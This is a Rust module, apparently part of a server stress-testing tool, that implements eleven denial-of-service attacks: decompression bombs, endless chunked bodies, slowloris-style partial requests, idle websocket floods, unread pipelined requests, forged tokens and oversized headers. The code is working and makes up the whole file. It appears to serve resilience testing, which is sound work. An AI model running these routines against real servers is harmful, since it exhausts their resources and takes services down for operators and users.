//! The attacks. Each takes memory, time or connections of a server that trusts its clients.

use std::io;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::LazyLock;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use crate::connection::{connect, connect_as_anybody, drain, exchange};
use crate::honest::{get, post};

/// The server that is attacked, and a valid token.
#[derive(Clone)]
pub(crate) struct Target {
    pub(crate) address: SocketAddr,
    pub(crate) token: String,
}

/// An attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) about: &'static str,
    /// The number of attempts at once.
    pub(crate) tasks: u32,
    /// One attempt, which is repeated.
    pub(crate) attempt: fn(Target) -> Attempt,
}

type Attempt = Pin<Box<dyn Future<Output = io::Result<()>> + Send>>;

macro_rules! attacks {
    ($($name:ident, $tasks:literal, $about:literal;)*) => {
        /// All attacks.
        pub(crate) const ATTACKS: &[Attack] = &[$(
            Attack { name: stringify!($name), about: $about, tasks: $tasks, attempt: |target| Box::pin($name(target)) }
        ),*];
    };
}

attacks! {
    nested_arrays, 32, "bodies whose unknown fields take many times their size in memory";
    compressed_nothing, 8, "endless gzip that decompresses to nothing";
    endless_input, 8, "an endless body for an endpoint without input";
    half_heads, 500, "connections that send half of the head of a request";
    half_bodies, 500, "connections that send half of a body";
    one_byte_a_second, 200, "connections that send a byte a second";
    idle_streams, 2000, "subscriptions that only wait";
    deaf_clients, 10, "a hundred requests a second on connections whose responses are never read";
    forged_tokens, 8, "tokens that are not valid";
    many_addresses, 8, "requests from as many addresses as possible";
    large_heads, 8, "requests with as large a head as possible";
}

/// About 1 MiB of JSON.
static NESTED: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let arrays = "[[[0]],[[0]]],".repeat(70_000);
    post(format!(r#"{{"identifier":"alice.test","password":"guess","x":[{arrays}0]}}"#).as_bytes())
});

async fn nested_arrays(target: Target) -> io::Result<()> {
    exchange(&mut connect_as_anybody(target.address).await?, &NESTED).await.map(drop)
}

/// The header of gzip, without optional fields.
const GZIP: &[u8] = b"\x1f\x8b\x08\0\0\0\0\0\0\xff";

/// A block of deflate that is not the last, and stores nothing.
const EMPTY_BLOCK: &[u8] = b"\0\0\0\xff\xff";

async fn compressed_nothing(target: Target) -> io::Result<()> {
    let head = "POST /xrpc/com.atproto.server.createSession HTTP/1.1\r\nHost: localhost\r\n\
                Content-Type: application/json\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n";
    endless(target, head, GZIP, &EMPTY_BLOCK.repeat(10_000)).await
}

async fn endless_input(target: Target) -> io::Result<()> {
    let head =
        "POST /xrpc/com.atproto.server.deleteSession HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n";
    endless(target, head, b" ", &b" ".repeat(50_000)).await
}

/// Sends chunks until the server closes the connection.
async fn endless(target: Target, head: &str, first: &[u8], next: &[u8]) -> io::Result<()> {
    let mut stream = connect(target.address).await?;
    stream.write_all(head.as_bytes()).await?;
    let mut chunk = first;
    loop {
        stream.write_all(format!("{:x}\r\n", chunk.len()).as_bytes()).await?;
        stream.write_all(chunk).await?;
        stream.write_all(b"\r\n").await?;
        chunk = next;
        // Enough to fill a gigabyte in a minute, and not to be a flood.
        sleep(Duration::from_millis(20)).await;
    }
}

async fn half_heads(target: Target) -> io::Result<()> {
    let mut stream = connect(target.address).await?;
    stream.write_all(b"GET /xrpc/_health HTTP/1.1\r\nHost: loc").await?;
    drain(stream).await
}

async fn half_bodies(target: Target) -> io::Result<()> {
    let mut stream = connect(target.address).await?;
    stream.write_all(&NESTED[..8000]).await?;
    drain(stream).await
}

async fn one_byte_a_second(target: Target) -> io::Result<()> {
    let mut stream = connect(target.address).await?;
    for byte in &*NESTED {
        stream.write_all(std::slice::from_ref(byte)).await?;
        sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

async fn idle_streams(target: Target) -> io::Result<()> {
    let mut stream = connect_as_anybody(target.address).await?;
    let head = format!(
        "GET /xrpc/com.example.session.subscribeEvents HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n\
         Connection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        target.token
    );
    stream.write_all(head.as_bytes()).await?;
    drain(stream).await
}

async fn deaf_clients(target: Target) -> io::Result<()> {
    let mut stream = connect(target.address).await?;
    let requests = get(&target.token).repeat(100);
    loop {
        stream.write_all(&requests).await?;
        sleep(Duration::from_secs(1)).await;
    }
}

async fn forged_tokens(target: Target) -> io::Result<()> {
    let (head, signature) = target.token.rsplit_once('.').unwrap_or_default();
    let forged: String = signature.chars().map(|_| fastrand::alphanumeric()).collect();
    exchange(&mut connect(target.address).await?, &get(&format!("{head}.{forged}"))).await.map(drop)
}

async fn many_addresses(target: Target) -> io::Result<()> {
    let body = format!(r#"{{"identifier":"{}.test","password":"guess"}}"#, fastrand::u64(..));
    exchange(&mut connect_as_anybody(target.address).await?, &post(body.as_bytes())).await.map(drop)
}

async fn large_heads(target: Target) -> io::Result<()> {
    let mut stream = connect(target.address).await?;
    stream.write_all(b"GET /xrpc/_health HTTP/1.1\r\nHost: localhost\r\n").await?;
    for number in 0.. {
        stream.write_all(format!("x-{number}: {}\r\n", "a".repeat(4000)).as_bytes()).await?;
        sleep(Duration::from_millis(5)).await;
    }
    Ok(())
}
